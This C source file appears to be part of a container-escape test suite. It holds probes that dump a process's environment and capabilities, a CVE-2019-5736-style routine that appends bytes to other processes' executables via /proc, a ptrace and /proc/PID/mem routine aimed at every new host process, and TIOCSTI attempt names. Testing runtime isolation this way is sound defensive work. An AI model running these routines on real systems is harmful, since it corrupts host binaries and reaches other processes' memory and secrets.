/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Group B: exec, descriptors and identity. Agents that say what they inherited, that overwrite what others execute, that take a pid. */
#include "escape.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ---- self [FILE]: everything that a process inherits, a line each ---- */

static void tell_file(FILE *out, const char *name, const char *path)
{
    char text[8192];

    (void)fprintf(out, "%s=", name);
    if (read_path(path, text, sizeof(text)) < 0)
        (void)fprintf(out, "(%s)", strerrorname_np(errno));
    for (char *c = text; *c; c++)
        (void)fputc(*c == '\n' ? ' ' : *c, out);
    (void)fputc('\n', out);
}

static void tell_status(FILE *out)
{
    static const char *const fields[] = {"Umask", "Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "SigBlk", "SigIgn", "Cpus_allowed",
                                         "Mems_allowed", "THP_enabled", "Speculation_Store_Bypass"};
    char value[1024];

    for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++)
        if (status_field(fields[i], value, sizeof(value)))
            (void)fprintf(out, "%s=%s\n", fields[i], value);
}

static void tell_limits(FILE *out)
{
    struct rlimit limit;

    for (int i = 0; i < (int)RLIM_NLIMITS; i++)
        if (getrlimit((__rlimit_resource_t)i, &limit) == 0)
            (void)fprintf(out, "rlimit%d=%lu %lu\n", i, limit.rlim_cur, limit.rlim_max);
}

static void tell_keyring(FILE *out)
{
    char text[256] = "";
    long id = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0), n = id < 0 ? -1 : syscall(SYS_keyctl, 6 /* DESCRIBE */, id, text, sizeof(text));

    (void)fprintf(out, "keyring=%s\n", n < 0 ? strerrorname_np(errno) : text);
}

static void tell_descriptors(FILE *out)
{
    char target[512], path[300];
    DIR *dir = opendir("/proc/self/fd");
    const struct dirent *entry;

    while (dir && (entry = readdir(dir))) {
        if (entry->d_name[0] == '.' || strtol(entry->d_name, NULL, 10) == dirfd(dir) || strtol(entry->d_name, NULL, 10) == fileno(out))
            continue;
        (void)snprintf(path, sizeof(path), "/proc/self/fd/%s", entry->d_name);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        (void)fprintf(out, "fd%s=%.*s\n", entry->d_name, n < 0 ? 0 : (int)n, target);
    }
    if (dir)
        (void)closedir(dir);
}

static int self(int argc, char **argv)
{
    FILE *out = argc > 1 ? fopen(argv[1], "ae") : stdout;
    char cwd[4096];
    int subreaper = -1;

    if (!out)
        return 1;
    (void)fprintf(out, "cwd=%s\n", getcwd(cwd, sizeof(cwd)) ? cwd : "?");
    for (char **v = environ; *v; v++)
        (void)fprintf(out, "env:%s\n", *v);
    tell_status(out);
    tell_limits(out);
    (void)prctl(PR_GET_CHILD_SUBREAPER, &subreaper);
    (void)fprintf(out, "nice=%d\npolicy=%d\nsecurebits=%d\ndumpable=%d\nsubreaper=%d\ntimerslack=%d\nleader=%d\nioprio=%ld\n", getpriority(PRIO_PROCESS, 0), sched_getscheduler(0),
                  prctl(PR_GET_SECUREBITS), prctl(PR_GET_DUMPABLE), subreaper, prctl(PR_GET_TIMERSLACK), getsid(0) == getpid(), syscall(SYS_ioprio_get, 1, 0));
    tell_keyring(out);
    tell_file(out, "oom_score_adj", "/proc/self/oom_score_adj");
    tell_file(out, "setgroups", "/proc/self/setgroups");
    tell_file(out, "personality", "/proc/self/personality");
    tell_file(out, "coredump_filter", "/proc/self/coredump_filter");
    tell_file(out, "label", "/proc/self/attr/current");
    tell_file(out, "cgroup", "/proc/self/cgroup");
    tell_descriptors(out);
    return fflush(out) == 0 && (out == stdout || fclose(out) == 0) ? 0 : 1;
}

/* ---- overwrite SECONDS: waits for what others execute, and writes a byte to the end of it (CVE-2019-5736) ---- */

static bool is_ours(const struct stat *program)
{
    struct stat s;
    static const char *const known[] = {"/bin/escape-probe", "/bin/busybox", "/bin/trap"};

    for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
        if (stat(known[i], &s) == 0 && s.st_ino == program->st_ino && s.st_dev == program->st_dev)
            return true;
    return false;
}

/* A descriptor of the program, which outlives the process; then it is opened again for writing as soon as nobody executes it. */
static void write_to(int program)
{
    char path[64];

    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
    for (int i = 0; i < 4000; i++) { /* two seconds */
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0) {
            (void)printf("opened for writing\n");
            if (write(fd, "x", 1) == 1)
                (void)printf("written\n");
            (void)fflush(stdout);
            (void)close(fd);
            return;
        }
        if (errno != ETXTBSY)
            return;
        (void)usleep(500);
    }
}

#define BEHIND 16

static int overwrite(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? strtol(argv[1], NULL, 10) : 5);
    unsigned long caught = 0;
    char path[64];
    struct stat s;

    (void)printf("ready\n");
    (void)fflush(stdout);
    for (pid_t first = getpid() + 1; time(NULL) < end && access("/tmp/enough", F_OK) != 0;)
        for (pid_t pid = first; pid < first + BEHIND + 64; pid++) {
            (void)snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (fstat(fd, &s) == 0 && !is_ours(&s)) {
                caught++;
                write_to(fd);
            }
            (void)close(fd);
            if (pid - BEHIND > first) /* numbers go up, and one that has been seen may execute something else later */
                first = pid - BEHIND;
        }
    (void)printf("caught %lu\n", caught);
    return 0;
}

/* ---- pid NUMBER UID: a process of that number, which notes signals and lets itself be looked at; ends with its parent's standard input ---- */

static volatile sig_atomic_t last_signal;

static void note(int number)
{
    last_signal = number;
}

static int be_it(long uid)
{
    char line[32];

    for (int number = 1; number < 32; number++)
        (void)signal(number, note);
    if (uid > 0 && (setgroups(0, NULL) != 0 || setresgid((gid_t)uid, (gid_t)uid, (gid_t)uid) != 0 || setresuid((uid_t)uid, (uid_t)uid, (uid_t)uid) != 0))
        return 1;
    (void)printf("ready\n");
    (void)fflush(stdout);
    for (;;) {
        ssize_t n = read(0, line, sizeof(line));
        if (last_signal)
            (void)printf("signal %d\n", (int)last_signal);
        (void)fflush(stdout);
        last_signal = 0;
        if (n == 0)
            return 0;
    }
}

static int take_pid(int argc, char **argv)
{
    pid_t wanted = argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 0;
    struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&wanted, .set_tid_size = 1, .flags = CLONE_NEWNS | CLONE_NEWUTS};
    int status;
    long pid = syscall(SYS_clone3, &args, sizeof(args));

    if (pid == 0)
        _exit(be_it(argc > 2 ? strtol(argv[2], NULL, 10) : 0));
    if (pid < 0)
        return (void)printf("failed %s\n", strerrorname_np(errno)), 1;
    return waitpid((pid_t)pid, &status, 0) == pid && WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

/* ---- trace SECONDS SECRET: attacks every new process of the host that is not its own, as who it is ---- */

static bool reads_secret(const char *path, const struct stat *secret)
{
    struct stat s;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), saved = errno;
    bool same = fd >= 0 && fstat(fd, &s) == 0 && s.st_ino == secret->st_ino && s.st_dev == secret->st_dev;

    if (fd >= 0)
        (void)close(fd);
    errno = saved;
    return same;
}

static void attack(pid_t pid, const char *secret_path, const struct stat *secret, unsigned long *seized, unsigned long *opened, unsigned long *read_it)
{
    char path[512];
    int status;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        ++*seized;
        if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid)
            (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    (void)snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    *opened += fd >= 0;
    if (fd >= 0)
        (void)close(fd);
    (void)snprintf(path, sizeof(path), "/proc/%d/root%s", (int)pid, secret_path);
    *read_it += reads_secret(path, secret);
    for (int i = 0; i < 24; i++) {
        (void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, i);
        *read_it += reads_secret(path, secret);
    }
}

/* The newest process of the host. */
static pid_t last_pid(void)
{
    char text[128];
    const char *blank = read_path("/proc/loadavg", text, sizeof(text)) > 0 ? strrchr(text, ' ') : NULL;

    return blank ? (pid_t)strtol(blank + 1, NULL, 10) : 0;
}

/* The one to look at next: others make processes as well, and who looks at all of them comes too late for the newest. */
static pid_t next_pid(pid_t last)
{
    pid_t newest = last_pid();

    return newest - 12 > last ? newest - 12 : last + 1;
}

static int trace(int argc, char **argv)
{
    time_t end = time(NULL) + (argc > 1 ? strtol(argv[1], NULL, 10) : 5);
    unsigned long tries = 0, seized = 0, opened = 0, read_it = 0, others = 0;
    struct stat secret, s;
    char path[64];

    if (argc < 4 || stat(argv[2], &secret) != 0)
        return 2;
    (void)printf("ready\n");
    (void)fflush(stdout);
    for (pid_t last = getpid(); time(NULL) < end && access(argv[3], F_OK) != 0;)
        for (pid_t pid = next_pid(last); pid <= last_pid(); pid++) {
            (void)snprintf(path, sizeof(path), "/proc/%d", (int)pid);
            if (stat(path, &s) != 0)
                continue;
            for (int i = 0; i < 200 && stat(path, &s) == 0; i++, tries++)
                attack(pid, argv[2], &secret, &seized, &opened, &read_it);
            others++;
            last = pid;
            break;
        }
    (void)printf("{\"processes\":%lu,\"tries\":%lu,\"seize\":%lu,\"mem\":%lu,\"secret\":%lu}\n", others, tries, seized, opened, read_it);
    return 0;
}

/* ---- attempts ---- */

/* Standard output opened again by its name: it is a file of the host here. */
static long reopen(const char *argument)
{
    const char *path = getenv("ESCAPE_REOPEN") ? getenv("ESCAPE_REOPEN") : "/proc/self/fd/1";

    return open_path(path, strcmp(argument, "read") == 0 ? O_RDONLY : strcmp(argument, "write") == 0 ? O_WRONLY | O_APPEND : strcmp(argument, "both") == 0 ? O_RDWR : O_WRONLY | O_TRUNC);
}

/* The terminal of the caller as a controlling one, and what can be typed into it then. */
static long open_tty(const char *argument)
{
    (void)argument;
    return open("/dev/tty", O_RDWR | O_CLOEXEC | O_NONBLOCK);
}

static long has_terminal(const char *argument)
{
    char text[1024];

    (void)argument;
    if (read_path("/proc/1/stat", text, sizeof(text)) < 0)
        return -1;
    const char *after = strrchr(text, ')');
    int tty = 0;
    char state;
    int ppid, group, session;

    if (!after || sscanf(after + 1, " %c %d %d %d %d", &state, &ppid, &group, &session, &tty) != 5)
        return absent("no such field");
    return held(tty == 0, "tty %d", tty);
}

/* A member of a group that a file shuts out (mode 0604) leaves that group: by itself, or as root of a user namespace of its own. */
static long leave_group(const char *argument)
{
    if (strcmp(argument, "nested") == 0 && unshare(CLONE_NEWUSER) != 0)
        return -1;
    if (strcmp(argument, "nested") == 0)
        return 0; /* what the kernel does then is not the runtime's to decide */
    if (geteuid() == 0 && setresuid(1000, 1000, 1000) != 0)
        return -1;
    return setgroups(0, NULL);
}

static long write_setgroups(const char *argument)
{
    long fd = open_path("/proc/self/setgroups", O_WRONLY);

    return fd < 0 ? -1 : write((int)fd, argument, strlen(argument));
}

const struct attempt group_b[] = {
    {.row = "B08", .name = "leave-group", .run = leave_group, .each = "plain nested"},
    {.row = "B08", .name = "write-setgroups", .run = write_setgroups, .each = "deny allow"},
    {.row = "B13", .name = "controlling", .run = has_terminal},
    {.row = "B13", .name = "open-tty", .run = open_tty},
    {.row = "B13", .name = "tiocsctty"},
    {.row = "B13", .name = "tiocsti"},
    {.row = "B13", .name = "tiocsti-high-bits"},
    {.row = "B14", .name = "reopen", .run = reopen, .each = "truncate read write both"},
    {.name = NULL},
};

const struct agent agents_b[] = {{"self", self}, {"overwrite", overwrite}, {"pid", take_pid}, {"trace", trace}, {NULL, NULL}};
